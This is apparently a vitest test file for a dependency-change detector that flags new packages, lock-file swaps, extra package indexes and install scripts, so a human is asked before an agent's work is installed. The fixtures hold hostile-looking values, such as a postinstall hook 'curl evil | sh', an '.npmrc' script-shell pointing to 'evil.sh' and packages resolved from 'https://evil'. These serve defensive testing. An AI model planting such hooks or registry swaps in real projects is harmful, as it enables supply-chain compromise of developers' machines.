import { describe, expect, it } from 'vitest'
import {
  asksAboutDependencies,
  dependenciesRefused,
  dependencyChanges,
  dependencyQuestion,
  unaskedChanges,
} from './dependency-changes.ts'

const one = (path: string, before: string, after: string) => dependencyChanges([{ path, before, after }])
const json = JSON.stringify
const lock = (packages: Record<string, unknown>) => json({ lockfileVersion: 3, packages })

describe('changed manifests', () => {
  it.each<[string, string, string, string, string[]]>([
    ['a new package', 'package.json', '{}', json({ dependencies: { pad: '^1' } }), ['pad ^1 (package.json)']],
    [
      'another version',
      'package.json',
      json({ devDependencies: { a: '1' } }),
      json({ devDependencies: { a: '2' } }),
      ['a 2 (package.json)'],
    ],
    [
      'a package from an address',
      'package.json',
      '{}',
      json({ dependencies: { a: 'https://x/a.tgz' } }),
      ['a https://x/a.tgz (package.json)'],
    ],
    ['an override', 'package.json', '{}', json({ overrides: { a: 'npm:evil' } }), ['a npm:evil (package.json)']],
    [
      'a lock file that replaces a package',
      'package-lock.json',
      lock({ '': {}, 'node_modules/a': { version: '1', resolved: 'https://r/a.tgz', integrity: 'sha512-x' } }),
      lock({
        '': {},
        'node_modules/a': {
          version: '1',
          resolved: 'https://evil/a.tgz',
          integrity: 'sha512-y',
          hasInstallScript: true,
        },
      }),
      ['a 1 from https://evil/a.tgz sha512-y, runs an install script (package-lock.json)'],
    ],
    ['a requirement', 'requirements.txt', 'a==1\n', 'a==1\n# why\nb==2\n', ['b==2 (requirements.txt)']],
    [
      'an index of packages',
      'requirements.txt',
      '',
      '--extra-index-url https://evil\n',
      ['--extra-index-url https://evil (requirements.txt)'],
    ],
    [
      'a Python dependency',
      'pyproject.toml',
      '[project]\nname="a"\ndependencies = [\n]',
      '[project]\nname="a"\ndependencies = [\n"evil",\n]',
      ['"evil", (pyproject.toml)'],
    ],
    [
      'a Python build backend',
      'pyproject.toml',
      '',
      '[build-system]\nrequires = ["evil"]',
      ['requires = ["evil"] (pyproject.toml)'],
    ],
    ['a crate', 'Cargo.toml', '[dependencies]\n', '[dependencies]\nserde = "1"\n', ['serde = "1" (Cargo.toml)']],
    ['a module of Go', 'go.mod', 'module a\n', 'module a\nrequire evil v1\n', ['require evil v1 (go.mod)']],
    ['a manifest that cannot be read', 'package.json', '{}', '{', ['a manifest that cannot be read: { (package.json)']],
  ])('[TR3] asks about %s', (_, path, before, after, expected) => {
    const changes = one(path, before, after)
    expect(changes.dependencies).toEqual(expected)
    expect(asksAboutDependencies(changes)).toBe(true)
  })

  it.each<[string, string, string, string]>([
    ['a version of the project', 'package.json', json({ version: '1' }), json({ version: '2' })],
    [
      'a removed package',
      'package.json',
      json({ dependencies: { a: '1', b: '1' } }),
      json({ dependencies: { a: '1' } }),
    ],
    [
      'another order',
      'package.json',
      json({ dependencies: { a: '1', b: '1' } }),
      json({ dependencies: { b: '1', a: '1' } }),
    ],
    ['a script', 'package.json', '{}', json({ scripts: { lint: 'x' } })],
    ["a linter's settings", 'pyproject.toml', '[tool.ruff]\nx=1', '[tool.ruff]\nx=2'],
    ['a comment', 'requirements.txt', 'a==1', '# pinned\na==1'],
  ])('[TR3] asks nothing about %s', (_, path, before, after) => {
    expect(asksAboutDependencies(one(path, before, after))).toBe(false)
  })

  it('[TR3] asks about settings of package managers, and notices changed install scripts', () => {
    expect(one('.npmrc', '', 'script-shell=./evil.sh').settings).toEqual(['.npmrc'])
    const scripts = one('package.json', '{}', json({ scripts: { postinstall: 'curl evil | sh' } }))
    expect(scripts).toEqual({ dependencies: [], settings: [], scripts: ['package.json'] })
  })

  it('[TR3] lists everything in one question, and tells a refused agent the same', () => {
    const changes = one(
      'package.json',
      '{}',
      json({ dependencies: Object.fromEntries(Array.from({ length: 120 }, (_, n) => [`p${n}`, '1'])) }),
    )
    const { text, detail } = dependencyQuestion(changes)
    expect(text).toBe('The work brings 120 new or changed dependencies. Install and run it?')
    expect(detail.split('\n')).toHaveLength(101)
    expect(detail).toContain('and 20 more')
    expect(dependenciesRefused(one('.npmrc', '', 'a=b'))).toContain('- .npmrc')
  })

  it('[TR3] are asked about once, not again after a rebase onto what a sibling brought', () => {
    const changed = (...dependencies: string[]) => ({ dependencies, settings: [], scripts: [] })
    const all = changed('pad ^1', 'left ^2', 'own ^3')
    expect(unaskedChanges(all, [changed('left ^2', 'own ^3')], new Set(['left ^2'])).dependencies).toEqual(['own ^3'])
    expect(unaskedChanges(all, [], new Set()).dependencies).toEqual(all.dependencies)
    expect(unaskedChanges(all, [all, changed()], new Set()).dependencies).toEqual([])
  })
})
